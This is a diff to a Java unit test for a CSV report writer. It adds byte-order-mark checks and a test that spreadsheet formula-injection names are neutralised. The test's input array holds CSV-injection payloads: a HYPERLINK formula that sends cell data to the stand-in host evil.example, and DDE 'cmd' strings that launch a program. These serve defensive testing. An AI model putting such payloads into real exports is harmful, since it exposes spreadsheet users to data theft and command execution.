@@ -29,7 +29,8 @@ class CsvWriterTest {
 
     /** Read back with an independent RFC 4180 parser. */
     static List<CSVRecord> parse(String text) throws IOException {
-        try (CSVParser p = CSVParser.parse(new StringReader(text), CSVFormat.RFC4180)) {
+        assertThat(text).as("a byte-order mark first").startsWith("\uFEFF");
+        try (CSVParser p = CSVParser.parse(new StringReader(text.substring(1)), CSVFormat.RFC4180)) {
             return p.getRecords();
         }
     }
@@ -41,7 +42,7 @@ class CsvWriterTest {
     @Test
     void headerThenOneRowPerFindingAndOneForATrustWithout() throws IOException {
         String text = csv(Examples.BOTH);
-        assertThat(text).startsWith(HEADER + "\r\n");
+        assertThat(text).startsWith("\uFEFF" + HEADER + "\r\n");
         List<CSVRecord> records = parse(text);
         assertThat(Examples.RIVERSIDE.findings()).isEmpty();
         assertThat(Examples.NORTHGATE.findings()).hasSize(24);
@@ -126,7 +127,7 @@ class CsvWriterTest {
         String name = "The \"Quoted\", Trust\r\nwith two lines";
         Assessment a = Reports.renamed(Examples.RIVERSIDE, "id,1", name);
         String text = csv(List.of(a));
-        assertThat(text).isEqualTo(HEADER + "\r\n"
+        assertThat(text).isEqualTo("\uFEFF" + HEADER + "\r\n"
                 + "\"id,1\",\"The \"\"Quoted\"\", Trust\r\nwith two lines\",2023-09-01,2024-08-31," + a.asOf() + ",LOW,0,,,,,,,,,,,,,,0,1,,,\r\n");
         List<CSVRecord> records = parse(text);
         assertThat(records.get(1).get(0)).isEqualTo("id,1");
@@ -135,7 +136,7 @@ class CsvWriterTest {
 
     @Test
     void anEmptyScanStillHasItsHeader() {
-        assertThat(csv(List.of())).isEqualTo(HEADER + "\r\n");
+        assertThat(csv(List.of())).isEqualTo("\uFEFF" + HEADER + "\r\n");
     }
 
     @Test
@@ -153,5 +154,42 @@ class CsvWriterTest {
     @Test
     void sameAssessmentsSameBytes() {
         assertThat(Examples.write("csv", Examples.BOTH)).isEqualTo(Examples.write("csv", Examples.BOTH));
+    }
+
+    @Test
+    void theFileStartsWithTheUtf8ByteOrderMarkUnlessAskedNot() throws IOException {
+        byte[] with = Examples.write("csv", List.of(Examples.RIVERSIDE));
+        assertThat(java.util.Arrays.copyOf(with, 3)).containsExactly(0xEF, 0xBB, 0xBF);
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try (CsvWriter w = new CsvWriter(out, false)) {
+            w.start();
+            w.accept(Examples.RIVERSIDE);
+            w.end(new ScanSummary(1, 1, 0));
+        }
+        assertThat(out.toString(StandardCharsets.UTF_8)).startsWith(HEADER + "\r\n");
+        assertThat(out.toByteArray().length).isEqualTo(with.length - 3);
+    }
+
+    @Test
+    void hostileNamesAreNeutralisedAndNumbersStayNumbers() throws IOException {
+        String[] hostile = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+                "\tTabbed Trust", "\rReturn Trust"};
+        for (String name : hostile) {
+            Assessment a = Reports.renamed(Examples.RIVERSIDE, "=1+1", name);
+            String text = csv(List.of(a));
+            CSVRecord row = parse(text).get(1);
+            assertThat(row.get(0)).as("id").isEqualTo("'=1+1");
+            assertThat(row.get(1)).as(name).isEqualTo("'" + name);
+            // the raw field is quoted too, so no spreadsheet reads a formula
+            assertThat(text).contains(",\"'" + name.substring(0, 1));
+        }
+        // numbers stay numbers: a negative amount or a score is written as it is
+        assertThat(CsvWriter.neutralise("-240000.00")).isEqualTo("-240000.00");
+        assertThat(CsvWriter.neutralise("-5")).isEqualTo("-5");
+        assertThat(CsvWriter.neutralise("+12.5")).isEqualTo("+12.5");
+        assertThat(CsvWriter.neutralise("-5 days")).isEqualTo("'-5 days");
+        assertThat(CsvWriter.neutralise("Trust = fine")).isEqualTo("Trust = fine");
+        CSVRecord northgate = parse(csv(List.of(Examples.NORTHGATE))).get(1);
+        assertThat(northgate.get(6)).isEqualTo("100");
     }
 }
